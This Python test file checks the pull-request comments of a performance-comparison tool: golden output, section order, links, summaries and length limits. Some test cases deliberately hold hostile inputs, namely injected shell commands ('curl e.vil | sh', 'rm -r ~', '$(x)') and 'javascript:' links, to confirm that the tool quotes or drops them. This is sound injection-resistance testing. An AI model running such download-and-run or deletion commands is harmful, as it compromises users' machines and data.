"""The comment as a whole: golden files, order, bounded length, nothing of a stranger's obeyed.

Renew the golden files with `pytest tests/unit/text --renew-golden` and read the diff.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings

from observatory.store.records.comparison import Comparison, Workload
from observatory.text.comment import LIMIT, MARKER, comment
from observatory.text.comparison.origin import Origin, PullRequest, Source
from tests import factories_comparison as factory
from tests.factories_comparison import noisy, where
from tests.gfm import problems, visible_lines
from tests.hostile_comparisons import flood, hostile_comparisons

pytestmark = pytest.mark.long

GOLDEN = Path(__file__).parent / "golden"
RENEW = "renew with: pytest tests/unit/text --renew-golden"


@pytest.mark.parametrize("scene", factory.SCENES)
def test_the_comment_is_the_golden_one(scene: str, request: pytest.FixtureRequest) -> None:
    path = GOLDEN / f"{scene}.md"
    made = comment(factory.SCENES[scene]())
    if request.config.getoption("--renew-golden", default=False):
        path.write_text(made, "utf-8")
    assert made.splitlines() == path.read_text("utf-8").splitlines(), RENEW


@pytest.mark.parametrize("scene", factory.SCENES)
def test_the_comment_renders_to_the_allowed_elements_only(scene: str) -> None:
    assert problems(comment(factory.SCENES[scene]())) == []


@pytest.mark.parametrize("scene", [scene for scene in factory.SCENES if scene != "mixed"])
def test_a_common_comment_fits_a_screen(scene: str) -> None:
    assert visible_lines(comment(factory.SCENES[scene]())) <= 25


def test_the_marker_comes_first_and_then_the_verdict_in_words() -> None:
    marker, verdict, *_ = comment(factory.cache_regression()).splitlines()
    assert marker == MARKER
    assert verdict == (
        "### 🔺 Slower: 35 functions stopped hitting the cache in 4 warm cells of `NUMBA`"
    )


def _order(text: str, *words: str) -> list[int]:
    places = [text.index(word) for word in words]
    assert places == sorted(places), words
    return places


def test_everything_is_told_in_the_order_of_its_weight() -> None:
    _order(
        comment(factory.mixed()),
        "5 worse, 2 better, 2 not fully judged",
        "| what is worse |",
        "| in total |",
        "#### The cache refuses functions",
        "#### More Python work",
        "#### Call time",
        "#### Not judged",
        "#### Better",
        "<summary>Workload changed",
        "observatory compare 3.3.6",
    )


def test_wrong_results_come_before_causes_that_cost_more() -> None:
    wrong = factory.wrong_results()
    lost = factory.cache_regression()
    causes = [lost.causes[0], wrong.causes[0].model_copy(update={"id": "cause-2"})]
    changed = [v.model_copy(update={"cause": "cause-2"}) for v in wrong.worse if v.cause]
    made = comment(factory.comparison([*lost.worse, *changed], causes=causes))
    assert made.splitlines()[1].startswith("### ❌ Wrong results: 7 wrong values in")
    _order(made, "#### Wrong results", "#### Keys differ between processes")


# What the publisher knows.

OURS = "https://github.com/our/observatory/blob/0123abc/docs/"
PUBLISHED = Origin(
    Source("our/observatory", "0123abc"),
    "https://example.org/caches/",
    PullRequest("pymc-devs/pytensor", 12, "main", "a1" * 20),
)


def of_commits(comparison: Comparison, **changes: object) -> Comparison:
    """The same comparison, of two commits."""
    base, head = (
        side.model_copy(update={
            "subject": side.subject.model_copy(update={"label": sha[:12], "commit": sha})
        })
        for side, sha in ((comparison.base, "b2" * 20), (comparison.head, "c3" * 20))
    )  # fmt: skip
    return comparison.model_copy(update={"base": base, "head": head, **changes})


def test_a_pull_request_is_your_branch_against_the_branch_that_it_goes_into() -> None:
    lines = comment(of_commits(factory.mixed()), PUBLISHED).splitlines()
    assert lines[3].startswith("Your branch (`a1a1a1a1`) vs `main` (`b2b2b2b2`), model `radon`.")
    titles = "| `call_time` | Your branch is | main → your branch | "
    assert any(line.startswith(titles) for line in lines)
    assert not any("HEAD" in line or "BASE" in line for line in lines)


def test_branches_that_a_person_compares_keep_their_names() -> None:
    named = of_commits(factory.slower(), base_ref="main", head_ref="faster-scan")
    assert "`faster-scan` (`c3c3c3c3`) vs `main` (`b2b2b2b2`), model" in comment(named)
    assert "`c3c3c3c3` vs `b2b2b2b2`, model" in comment(of_commits(factory.slower()))


def test_two_sides_of_one_name_are_told_apart() -> None:
    made = comment(factory.comparison(head=factory.side("3.3.6")))
    assert "The second `3.3.6` vs the first `3.3.6`, model" in made


def test_links_lead_where_the_publisher_says_and_words_to_the_documentation() -> None:
    made = comment(factory.slower(), PUBLISHED)
    assert problems(made, (OURS, PUBLISHED.dashboard)) == []
    assert f"27 [cells]({OURS}reference/glossary.md#cell): 3 worse" in made
    assert f"[Is this expected?]({OURS}how-to/read-a-comment.md#is-this-expected)" in made
    assert made.rstrip().splitlines()[-1].startswith("[Dashboard](https://example.org/caches/) · ")
    assert "Is this expected?" not in comment(factory.nothing_changed(), PUBLISHED)


@pytest.mark.parametrize("page", ["javascript:x", "https://e.vil/)[x](y", "https://e.vil/ 'x'"])
def test_an_address_that_could_end_a_link_early_makes_no_link(page: str) -> None:
    made = comment(factory.slower(), Origin(dashboard=page))
    assert "\nDashboard\n" in made
    assert problems(made) == []


def test_one_command_repeats_a_pull_request_from_nothing() -> None:
    asked = "observatory compare b2 c3 --repo ../project --pass work"
    made = comment(of_commits(factory.slower(), reproduce=asked), PUBLISHED)
    assert (
        "git clone https://github.com/pymc-devs/pytensor pytensor && "
        "git -C pytensor fetch origin pull/12/merge && "
        "uvx --from git+https://github.com/our/observatory@0123abc "
        "observatory compare b2 c3 --repo pytensor --pass work\n"
    ) in made


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        ("observatory compare 1 2", "\nobservatory compare 1 2\n"),
        ("observatory compare 1 2; curl e.vil | sh", "'2;' curl e.vil '|' sh\n"),
        ("observatory compare $(x) `y`\nrm -r ~", "compare '$(x)' '`y`' rm -r '~'\n"),
        ("curl e.vil | sh", ""),
        ("observatory 'compare", ""),
    ],
)
def test_a_strangers_command_is_one_command_of_the_observatory_or_none(
    asked: str, told: str
) -> None:
    made = comment(factory.comparison(reproduce=asked))
    assert told in made
    assert ("To repeat this comparison" in made) == bool(told)


# The summary.


def test_the_summary_has_number_mean_and_range_of_primary_and_of_secondary_cells() -> None:
    warm = where(scenario="warm_disk", backend="NUMBA")
    changed = [
        noisy(each, "compile_time", size, "worse") for each, size in zip(warm, (2, 8), strict=True)
    ]
    changed += [
        noisy(each, "compile_time", 0.25, "better") for each in where(scenario="cold", backend="C")
    ]
    lines = comment(factory.comparison(changed)).splitlines()
    at = lines.index("| in total | cells | mean | range |")
    assert lines[at + 2].startswith("| `compile_time` worse in primary cells | 2 | ×4 | ×2 to ×8")
    assert lines[at + 3].startswith("| `compile_time` better in secondary cells | 2 | ÷4 |")


def test_a_single_change_has_no_summary_because_the_table_above_says_it() -> None:
    assert "| in total |" not in comment(factory.wrong_results())


# What a stranger's file may hold.


@settings(max_examples=150, suppress_health_check=list(HealthCheck))
@given(hostile_comparisons())
def test_no_text_of_a_stranger_is_obeyed(strange: Comparison) -> None:
    assert problems(comment(strange)) == []


@pytest.mark.parametrize("piece", ["x", "` ", "a_ ", "|@<", "\u202e"])
def test_no_comparison_makes_a_comment_longer_than_github_takes(piece: str) -> None:
    made = comment(flood(piece))
    assert len(made) <= LIMIT
    assert problems(made) == []
    assert made.startswith(f"{MARKER}\n### ")
    assert "This comment was cut to 65,000 characters and lacks " in made


def test_a_long_comment_loses_what_matters_least_and_says_so() -> None:
    lost = factory.cache_regression()
    names = [f"{'function' * 20}{number}" for number in range(100)]
    causes = [
        lost.causes[0].model_copy(
            update={"id": f"cause-{n}", "functions": factory.functions(*names)}
        )
        for n in range(1, 4)
    ]
    words = [(f"{'appeared' * 20}{number}", 1) for number in range(40)]
    workload = [Workload(model="radon", backend=str(n), appeared=words, vanished=[])
                for n in range(20)]  # fmt: skip
    made = comment(lost.model_copy(update={"causes": causes, "workload": workload}))
    assert len(made) <= LIMIT
    assert "the changes of the workload" in made.splitlines()[-1]
    assert "how it was measured" in made.splitlines()[-1]
    assert "<summary>Workload changed" not in made
    assert made.count("#### Keys differ between processes") == 3
    assert "observatory compare 3.3.6 3.3.7" in made


def test_a_comment_that_fits_leaves_nothing_out() -> None:
    assert "This comment was cut" not in comment(factory.mixed())
